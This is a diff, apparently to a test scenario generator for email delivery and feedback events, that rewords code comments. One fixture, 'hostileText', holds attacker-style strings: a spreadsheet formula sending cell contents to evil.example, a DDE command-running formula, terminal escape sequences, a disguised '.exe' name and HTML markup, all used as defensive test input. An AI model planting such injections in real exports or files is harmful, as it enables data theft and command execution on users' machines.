@@ -6,13 +6,13 @@ import { follow, open, prefetch, read, scan } from '../steps/engage';
 import { changePreferences, complain, complainBySuppression, unsubscribe } from '../steps/feedback';
 import { inOrder, type Story } from './story';
 
-/** Everything up to the mailbox of every recipient. */
+/** Sends the message and delivers it to every recipient. */
 function arrive(cycle: LifeCycle): void {
   send(cycle);
   for (const recipient of cycle.message.recipients) deliver(cycle, recipient);
 }
 
-/** Some of several recipients open and click, and the records do not say who. */
+/** Some of several recipients open and click. The records do not identify them. */
 function readBySome(cycle: LifeCycle): void {
   const { recipients } = cycle.message;
   arrive(cycle);
@@ -20,7 +20,7 @@ function readBySome(cycle: LifeCycle): void {
   follow(cycle, recipients[1]);
 }
 
-/** Fields that AWS might add tomorrow, to a record and to its mail block. */
+/** Fields that AWS might add to a record and to its mail block. */
 const newFields = { eventVersion: 1.1, insights: { isp: 'Example', tags: ['a', 'b'], nested: [] } };
 const newMailFields = { tenantId: 'tenant-0042', spamScore: 0.1, delegate: null };
 
@@ -34,7 +34,7 @@ function arriveWithNewFields(cycle: LifeCycle): void {
 
 const arriveAndRead = inOrder(arrive, read);
 
-/** What an attacker would write: terminal sequences, spreadsheet formulas, markup, text that runs backwards. */
+/** Texts of an attacker: terminal sequences, spreadsheet formulas, markup, text in the reverse direction. */
 const hostileText = {
   subject: '=HYPERLINK("https://evil.example/?c="&A1,"Refund")\u001b[2J\u001b]0;owned\u0007 \u202egpj.exe',
   smtpResponse:
@@ -43,10 +43,10 @@ const hostileText = {
     "@SUM(1+1)*cmd|' /C calc'!A0 \u001b]8;;https://evil.example\u0007Mozilla\u001b]8;;\u0007 <img src=x>",
 };
 
-/** What happens to messages that reach their mailbox; the first is by far the most frequent. */
+/** The stories of messages that reach their mailbox. The first one is by far the most frequent. */
 const readingStories: readonly Story[] = [
   { share: 594, happen: arrive },
-  // A machine opens at once; often nobody reads after it.
+  // A machine opens immediately. Often no person reads the message later.
   { share: 55, happen: inOrder(arrive, prefetch) },
   { share: 28, happen: inOrder(arrive, prefetch, (cycle) => read(cycle.passHalfDays(1))) },
   { share: 46, happen: arriveAndRead },
@@ -56,7 +56,7 @@ const readingStories: readonly Story[] = [
     happen: inOrder(arrive, (cycle) => read(cycle.passHalfDays(cycle.random.integer(1, 3)))),
   },
   { share: 3, happen: inOrder(arrive, (cycle) => read(cycle.passWeeks()), follow) },
-  // The same person again and again.
+  // The same person several times.
   {
     share: 38,
     happen: (cycle) => {
@@ -80,7 +80,7 @@ const readingStories: readonly Story[] = [
   { share: 12, message: { recipientCount: 2 }, happen: readBySome },
   { share: 6, message: { recipientCount: 3 }, happen: readBySome },
   { share: 3, message: { recipientCount: 5 }, happen: arrive },
-  // One of each sender for certain, however small the archive.
+  // At least one message of each sender, even in a small archive.
   { share: 0, message: { sender: senders.transactional }, happen: arriveAndRead },
   { share: 0, message: { sender: senders.alerts }, happen: arriveAndRead },
   { share: 0, message: { sender: senders.marketing }, happen: arriveAndRead },
@@ -97,7 +97,7 @@ const readingStories: readonly Story[] = [
   },
 ];
 
-/** What recipients say about the mail they get. */
+/** The stories of recipients who react to the mail. */
 const feedbackStories: readonly Story[] = [
   {
     share: 3,
@@ -107,7 +107,7 @@ const feedbackStories: readonly Story[] = [
       complain(cycle.passHalfDays(cycle.random.integer(0, 1)), 'abuse');
     },
   },
-  // A complaint that is good news.
+  // A `not-spam` report, the opposite of a complaint.
   { share: 1, happen: inOrder(arrive, (cycle) => complain(cycle, 'not-spam')) },
   { share: 1, happen: inOrder(send, complainBySuppression) },
   { share: 0, message: { recipientCount: 2 }, happen: inOrder(arrive, (cycle) => complain(cycle, 'other')) },
